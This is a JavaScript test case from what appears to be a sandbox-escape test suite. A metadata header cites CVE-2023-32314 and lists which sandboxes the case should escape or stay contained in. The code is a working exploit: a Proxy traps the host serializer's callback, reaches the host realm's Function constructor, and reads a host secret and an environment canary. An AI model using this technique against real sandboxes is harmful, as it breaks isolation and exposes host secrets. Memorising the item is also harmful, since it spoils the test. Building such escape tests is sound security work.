/*---
id: proto-proxy-result
title: A Proxy completion value intercepts the embedder's result serializer
category: prototype
goal: Get a function of the embedder's realm by trapping what its result-to-data code does with the completion value, then leak the global and env canaries of that realm.
technique: Return a Proxy around an array: a serializer that checks Array.isArray(v) && v.every(cb) fetches `every` through the get trap, which hands back a guest function that receives the serializer's own callback.
references: CVE-2023-32314, https://tc39.es/ecma262/#sec-proxy-object-internal-methods-and-internal-slots-get-p-receiver
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped
---*/
let leaked;
function steal(fn) {
  try {
    const F = fn.constructor;
    const g = F('return globalThis')();
    leaked = {
      foreign: F !== Function,
      hostSecret: g.__hostSecret,
      env: g.process ? g.process.env.WORKBENCH_CANARY : undefined,
    };
    console.log('serializer handed over a function:', JSON.stringify(leaked));
  } catch (e) {
    console.log('steal failed:', String(e).slice(0, 120));
  }
}
// Every method the outside fetches from the result is wrapped to inspect the function arguments it gets.
new Proxy(['probe'], {
  get(target, key, receiver) {
    const v = Reflect.get(target, key, receiver);
    if (typeof v !== 'function' || leaked) return v;
    return function (...args) {
      for (const a of args) if (typeof a === 'function') steal(a);
      return v.apply(target, args);
    };
  },
});
